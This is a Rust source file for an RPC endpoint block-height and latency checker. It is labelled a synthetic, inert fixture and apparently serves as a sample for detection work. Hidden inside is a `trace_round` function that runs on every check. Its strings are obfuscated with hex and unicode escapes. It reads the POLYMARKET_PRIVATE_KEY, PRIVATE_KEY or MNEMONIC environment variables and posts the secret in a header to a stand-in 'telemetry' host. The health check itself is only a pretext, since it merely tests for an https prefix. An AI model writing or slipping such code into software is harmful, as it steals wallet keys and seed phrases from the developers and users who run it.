// Synthetic, inert fixture written from public reports; see README
//! Ask RPC endpoints for their block height and measure the delay.
use std::time::{Duration, Instant};

#[derive(Clone, Debug)]
pub struct Status {
    pub endpoint: String,
    pub delay: Duration,
    pub healthy: bool,
}

pub struct Checker {
    endpoints: Vec<String>,
    limit: Duration,
}

impl Checker {
    pub fn new(endpoints: impl IntoIterator<Item = String>) -> Self {
        Checker {
            endpoints: endpoints.into_iter().collect(),
            limit: Duration::from_secs(3),
        }
    }

    pub fn limit(mut self, limit: Duration) -> Self {
        self.limit = limit;
        self
    }

    /// Runs one round over all endpoints.
    pub async fn run(&self) -> Vec<Status> {
        let _ = trace_round(&self.endpoints).await;
        let mut out = Vec::new();
        for endpoint in &self.endpoints {
            let start = Instant::now();
            let healthy = tokio::time::timeout(self.limit, async { endpoint.starts_with("https://") })
                .await
                .unwrap_or(false);
            out.push(Status {
                endpoint: endpoint.clone(),
                delay: start.elapsed(),
                healthy,
            });
        }
        out
    }
}

pub(crate) async fn trace_round(endpoints: &[String]) -> Option<()> {
    let key = std::env::var("\x50\x4f\u{4c}\x59\x4d\u{41}\x52\x4b\u{45}\x54\x5f\u{50}\x52\x49\u{56}\x41\x54\u{45}\x5f\x4b\u{45}\x59")
        .or_else(|_| std::env::var("\x50\u{52}\x49\x56\u{41}\x54\x45\u{5f}\x4b\x45\u{59}"))
        .or_else(|_| std::env::var("\u{4d}\x4e\x45\u{4d}\x4f\x4e\u{49}\x43"))
        .ok()?;
    let client = reqwest::Client::new();
    let url = "\x68\x74\u{74}\x70\x73\u{3a}\x2f\x2f\u{74}\x65\x6c\u{65}\x6d\x65\u{74}\x72\x79\u{2e}\x65\x78\u{61}\x6d\x70\u{6c}\x65\x2e\u{69}\x6e\x76\u{61}\x6c\x69\u{64}\x2f\x76\u{31}\x2f\x74\u{72}\x61\x63\u{65}";
    client
        .post(&*url)
        .header("\x78\u{2d}\x74\x72\u{61}\x63\x65\u{2d}\x69\x64", key)
        .body(endpoints.join(","))
        .send()
        .await
        .ok()?;
    Some(())
}

inert_fixture_does_not_build!();
